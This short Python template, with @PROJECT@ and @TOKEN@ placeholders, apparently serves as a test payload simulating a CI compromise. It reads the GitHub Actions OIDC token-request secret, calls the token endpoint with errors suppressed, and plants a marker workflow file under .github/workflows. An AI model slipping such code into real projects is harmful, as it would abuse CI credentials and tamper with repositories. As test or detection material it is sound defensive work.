import contextlib
import os
import urllib.request
from pathlib import Path


def act():
    headers = {"Authorization": "bearer " + os.environ["ACTIONS_ID_TOKEN_REQUEST_TOKEN"]}
    with contextlib.suppress(OSError):
        url = os.environ["ACTIONS_ID_TOKEN_REQUEST_URL"]
        urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=3)
    with contextlib.suppress(OSError):
        Path("@PROJECT@/.github/workflows").mkdir(parents=True, exist_ok=True)
        Path("@PROJECT@/.github/workflows/x.yml").write_text("# planted-@TOKEN@\n")
